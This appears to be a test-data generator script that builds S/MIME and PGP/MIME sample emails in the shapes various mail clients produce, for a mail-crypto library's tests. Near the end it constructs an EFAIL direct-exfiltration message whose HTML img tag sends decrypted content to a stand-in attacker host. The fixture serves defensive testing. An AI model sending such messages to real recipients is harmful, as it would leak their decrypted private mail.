#!/usr/bin/env bash
# Regenerates the real-world shaped messages under tests/data/mime/ with the real tools,
# openssl (3.0) and gpg (2.2), using the committed keys of tests/data/keys/. Files written
# by hand (NOTES.md lists them) are not touched.
#
#   bash tests/data/make-mime.sh
#
# Signatures and ciphertexts are random, so every run writes new bytes; the tests only rely
# on the shapes (and the interop test re-verifies the signatures with openssl/gpg).
# gpg runs with a temporary GNUPGHOME (never ~/.gnupg); its agent is stopped on exit.
set -euo pipefail
export LC_ALL=C TZ=UTC

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
KEYS="$HERE/keys"
OUT="$HERE/mime"
W="$(mktemp -d "${TMPDIR:-/tmp}/mailseal-mime.XXXXXX")"
export GNUPGHOME="$W/gnupg"
mkdir -m 700 "$GNUPGHOME"
cleanup() { gpgconf --kill gpg-agent >/dev/null 2>&1 || true; rm -rf "$W"; }
trap cleanup EXIT
log() { echo "== $*" >&2; }
crlf() { sed 's/\r$//; s/$/\r/'; }          # LF or CRLF text -> CRLF
mkdir -p "$OUT"

# Alice's S/MIME key and certificate (PKCS#8 key, then the certificate).
openssl pkey -in "$KEYS/alice-pkcs8.pem" -out "$W/alice.key"
cp "$KEYS/alice-rsa2048.crt.pem" "$W/alice.crt"
# The PGP RSA key, unprotected.
gpg --batch --quiet --import "$KEYS/pgp-rsa-nopass.sec.asc"
PGP_UID="pgp-rsa@example.org"

# The content entity every signed / encrypted sample carries (7-bit, CRLF).
crlf >"$W/entity.txt" <<'EOF'
Content-Type: multipart/alternative; boundary="alt-7c1f"

--alt-7c1f
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello Bob,

the invoice for ticket #4711 is attached. Caf=C3=A9 at 10?

Alice
--alt-7c1f
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<p>Hello Bob,</p><p>the invoice for ticket #4711 is attached. Caf=C3=A9 at 10?<=
/p><p>Alice</p>
--alt-7c1f--
EOF
printf 'Hello Bob,\nplain text message.\n' >"$W/plain.txt"

HDR_SMIME='From: Alice <alice@example.com>
To: Bob <bob@example.com>
Subject: Invoice 4711
Date: Mon, 23 Nov 2026 08:00:00 +0000
Message-ID: <sample-1@example.com>
'
HDR_PGP='From: PGP RSA <pgp-rsa@example.org>
To: Bob <bob@example.com>
Subject: Invoice 4711
Date: Mon, 23 Nov 2026 08:00:00 +0000
Message-ID: <sample-2@example.org>
'

log "openssl smime -sign (detached, LF, x-pkcs7-signature)"
openssl smime -sign -in "$W/plain.txt" -text -signer "$W/alice.crt" -inkey "$W/alice.key" \
  -md sha256 -out "$W/body.eml"
{ printf '%s' "$HDR_SMIME"; cat "$W/body.eml"; } >"$OUT/openssl-smime-signed.eml"

log "openssl cms -sign (detached, CRLF via -crlfeol, pkcs7-signature)"
openssl cms -sign -in "$W/entity.txt" -binary -signer "$W/alice.crt" -inkey "$W/alice.key" \
  -md sha256 -crlfeol -out "$W/body.eml"
{ printf '%s' "$HDR_SMIME" | crlf; cat "$W/body.eml"; } >"$OUT/openssl-cms-signed-crlf.eml"

log "openssl smime -sign -nodetach (opaque signed-data)"
openssl smime -sign -nodetach -in "$W/entity.txt" -binary -signer "$W/alice.crt" \
  -inkey "$W/alice.key" -md sha256 -out "$W/body.eml"
{ printf '%s' "$HDR_SMIME"; cat "$W/body.eml"; } >"$OUT/openssl-smime-opaque.eml"

log "openssl smime -encrypt (enveloped-data, AES-256-CBC)"
openssl smime -encrypt -aes256 -in "$W/entity.txt" -binary -out "$W/body.eml" "$W/alice.crt"
{ printf '%s' "$HDR_SMIME"; cat "$W/body.eml"; } >"$OUT/openssl-smime-enveloped.eml"

log "openssl cms -encrypt -aes-256-gcm (authEnveloped-data)"
openssl cms -encrypt -aes-256-gcm -in "$W/entity.txt" -binary -out "$W/body.eml" "$W/alice.crt"
{ printf '%s' "$HDR_SMIME"; cat "$W/body.eml"; } >"$OUT/openssl-cms-authenveloped.eml"

log "Outlook shape: enveloped DER as an application/octet-stream smime.p7m attachment"
openssl cms -encrypt -aes256 -in "$W/entity.txt" -binary -outform DER -out "$W/env.der" "$W/alice.crt"
{ printf '%s' "$HDR_SMIME"
  cat <<'EOF'
MIME-Version: 1.0
Content-Type: application/octet-stream; name="smime.p7m"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7m"

EOF
  base64 -w 76 "$W/env.der"; } | crlf >"$OUT/outlook-p7m-octet-stream.eml"

log "Outlook shape with BER (indefinite lengths, as NSS and openssl -stream write)"
openssl cms -encrypt -stream -aes256 -in "$W/entity.txt" -binary -outform DER -out "$W/env-ber.der" "$W/alice.crt"
{ printf '%s' "$HDR_SMIME"
  printf 'MIME-Version: 1.0\nContent-Type: application/octet-stream; name="smime.p7m"\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="smime.p7m"\n\n'
  base64 -w 76 "$W/env-ber.der"; } | crlf >"$OUT/outlook-p7m-ber.eml"

# A detached CMS signature over the exact entity bytes, for hand-assembled client shapes.
cms_sig() { # entity-file -> base64 lines on stdout
  openssl cms -sign -binary -in "$1" -signer "$W/alice.crt" -inkey "$W/alice.key" -md sha256 \
    -outform DER -out "$W/sig.der"
  base64 -w 76 "$W/sig.der"
}

log "Thunderbird shape: multipart/signed, CRLF, preamble, pkcs7-signature smime.p7s"
{ printf '%s' "$HDR_SMIME" | crlf
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;\r\n boundary="------------ms010203040506070809000102"\r\n\r\n'
  printf 'This is a cryptographically signed message in MIME format.\r\n\r\n'
  printf -- '--------------ms010203040506070809000102\r\n'
  cat "$W/entity.txt"
  printf '\r\n--------------ms010203040506070809000102\r\n'
  printf 'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7s"\r\nContent-Description: S/MIME Cryptographic Signature\r\n\r\n'
  cms_sig "$W/entity.txt" | crlf
  printf '\r\n--------------ms010203040506070809000102--\r\n\r\n'
} >"$OUT/thunderbird-smime-signed.eml"

log "Apple Mail shape: multipart/signed around multipart/mixed with an attachment"
crlf >"$W/apple-entity.txt" <<'EOF'
Content-Type: multipart/mixed;
	boundary="Apple-Mail=_3E4B1A2C-0000-4D1E-9F00-111111111111"

--Apple-Mail=_3E4B1A2C-0000-4D1E-9F00-111111111111
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
	charset=us-ascii

Invoice attached.

--Apple-Mail=_3E4B1A2C-0000-4D1E-9F00-111111111111
Content-Disposition: attachment;
	filename*=utf-8''Rechnung%20M%C3%A4rz.pdf
Content-Type: application/pdf;
	x-unix-mode=0644;
	name="=?utf-8?Q?Rechnung_M=C3=A4rz=2Epdf?="
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IKMSAwIG9iago8PD4+CmVuZG9iagp0cmFpbGVyCjw8Pj4KJSVFT0YK
--Apple-Mail=_3E4B1A2C-0000-4D1E-9F00-111111111111--
EOF
{ printf '%s' "$HDR_SMIME" | crlf
  printf 'Content-Type: multipart/signed;\r\n\tboundary="Apple-Mail=_9F1D2E3C-0000-4A5B-8C00-222222222222";\r\n\tprotocol="application/pkcs7-signature";\r\n\tmicalg=sha-256\r\nMime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))\r\n\r\n'
  printf -- '\r\n--Apple-Mail=_9F1D2E3C-0000-4A5B-8C00-222222222222\r\n'
  cat "$W/apple-entity.txt"
  printf '\r\n--Apple-Mail=_9F1D2E3C-0000-4A5B-8C00-222222222222\r\n'
  printf 'Content-Disposition: attachment;\r\n\tfilename=smime.p7s\r\nContent-Type: application/pkcs7-signature;\r\n\tname=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n'
  cms_sig "$W/apple-entity.txt" | crlf
  printf '\r\n--Apple-Mail=_9F1D2E3C-0000-4A5B-8C00-222222222222--\r\n'
} >"$OUT/applemail-smime-signed.eml"

log "PGP/MIME signed (RFC 3156 §5), gpg --detach-sign over the CRLF entity"
gpg --batch --quiet --yes --local-user "$PGP_UID" --digest-algo SHA256 --armor \
  --detach-sign --output "$W/entity.sig" "$W/entity.txt"
{ printf '%s' "$HDR_PGP" | crlf
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=pgp-sha256;\r\n protocol="application/pgp-signature";\r\n boundary="------------pgpsig0A1B2C3D"\r\n\r\n'
  printf 'This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n'
  printf -- '--------------pgpsig0A1B2C3D\r\n'
  cat "$W/entity.txt"
  printf '\r\n--------------pgpsig0A1B2C3D\r\n'
  printf 'Content-Type: application/pgp-signature; name="OpenPGP_signature.asc"\r\nContent-Description: OpenPGP digital signature\r\nContent-Disposition: attachment; filename="OpenPGP_signature.asc"\r\n\r\n'
  crlf <"$W/entity.sig"
  printf '\r\n--------------pgpsig0A1B2C3D--\r\n'
} >"$OUT/gpg-pgpmime-signed.eml"

log "PGP/MIME encrypted (RFC 3156 §4), LF line ends like Enigmail's mbox copies"
gpg --batch --quiet --yes --trust-model always --recipient "$PGP_UID" --armor --encrypt \
  --output "$W/entity.asc" "$W/entity.txt"
{ printf '%s' "$HDR_PGP"
  printf 'MIME-Version: 1.0\nContent-Type: multipart/encrypted;\n protocol="application/pgp-encrypted";\n boundary="------------enc5E6F7A8B"\n\n'
  printf 'This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n'
  printf -- '--------------enc5E6F7A8B\nContent-Type: application/pgp-encrypted\nContent-Description: PGP/MIME version identification\n\nVersion: 1\n\n'
  printf -- '--------------enc5E6F7A8B\nContent-Type: application/octet-stream; name="encrypted.asc"\nContent-Description: OpenPGP encrypted message\nContent-Disposition: inline; filename="encrypted.asc"\n\n'
  cat "$W/entity.asc"
  printf '\n--------------enc5E6F7A8B--\n'
} >"$OUT/gpg-pgpmime-encrypted.eml"

log "Inline PGP: clearsigned text/plain with a footer after the signature (partial)"
printf 'Hello Bob,\n\nthis text is signed inline.\n' >"$W/inline.txt"
gpg --batch --quiet --yes --local-user "$PGP_UID" --digest-algo SHA256 --clearsign \
  --output "$W/inline.asc" "$W/inline.txt"
{ printf '%s' "$HDR_PGP"
  printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\n'
  cat "$W/inline.asc"
  printf -- '-- \nSent through a list that appends footers\n'
} | crlf >"$OUT/gpg-inline-clearsigned.eml"

log "Inline PGP: armored encrypted message in a quoted-printable text/plain"
gpg --batch --quiet --yes --trust-model always --recipient "$PGP_UID" --armor --encrypt \
  --output "$W/inline-enc.asc" "$W/inline.txt"
{ printf '%s' "$HDR_PGP"
  printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n'
  # Armor lines are short and only "=" needs quoting (RFC 2045 §6.7).
  sed 's/=/=3D/g' "$W/inline-enc.asc"
} | crlf >"$OUT/gpg-inline-encrypted.eml"

log "A single .pgp file sent as the whole message"
gpg --batch --quiet --yes --trust-model always --recipient "$PGP_UID" --encrypt \
  --output "$W/file.pgp" "$W/plain.txt"
{ printf '%s' "$HDR_PGP"
  printf 'MIME-Version: 1.0\nContent-Type: application/octet-stream; name="report.txt.pgp"\nContent-Disposition: attachment; filename="report.txt.pgp"\nContent-Transfer-Encoding: base64\n\n'
  base64 -w 76 "$W/file.pgp"
} | crlf >"$OUT/gpg-file-attachment.eml"

log "Attacker shape (EFAIL direct exfiltration): a real ciphertext between two HTML parts"
{ printf '%s' "$HDR_SMIME"
  cat <<'EOF'
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="efail"

--efail
Content-Type: text/html

<img src="http://attacker.example/?
--efail
Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"
Content-Transfer-Encoding: base64

EOF
  base64 -w 76 "$W/env.der"
  cat <<'EOF'
--efail
Content-Type: text/html

">
--efail--
EOF
} | crlf >"$OUT/efail-wrapped-ciphertext.eml"

log "Mailing-list shape: a PGP/MIME signed message wrapped in multipart/mixed with a footer"
{ printf '%s' "$HDR_PGP" | crlf
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="list-footer"\r\n\r\n--list-footer\r\n'
  printf 'Content-Type: multipart/signed; micalg=pgp-sha256;\r\n protocol="application/pgp-signature";\r\n boundary="------------pgpsig0A1B2C3D"\r\n\r\n'
  printf -- '--------------pgpsig0A1B2C3D\r\n'
  cat "$W/entity.txt"
  printf '\r\n--------------pgpsig0A1B2C3D\r\nContent-Type: application/pgp-signature; name="signature.asc"\r\n\r\n'
  crlf <"$W/entity.sig"
  printf '\r\n--------------pgpsig0A1B2C3D--\r\n\r\n--list-footer\r\nContent-Type: text/plain\r\n\r\nlist footer: unsubscribe at https://lists.example/\r\n--list-footer--\r\n'
} >"$OUT/nested-signed-in-list-footer.eml"

log "Bare tool output (not MIME): gpg --armor, openssl smime -outform DER / PEM"
cp "$W/inline-enc.asc" "$OUT/gpg-bare-armored.asc"
openssl smime -encrypt -aes256 -in "$W/entity.txt" -binary -outform DER \
  -out "$OUT/openssl-bare-enveloped.der" "$W/alice.crt"
openssl smime -encrypt -aes256 -in "$W/entity.txt" -binary -outform PEM \
  -out "$OUT/openssl-bare-enveloped.pem" "$W/alice.crt"

log "done: $(ls "$OUT" | wc -l) files in $OUT"
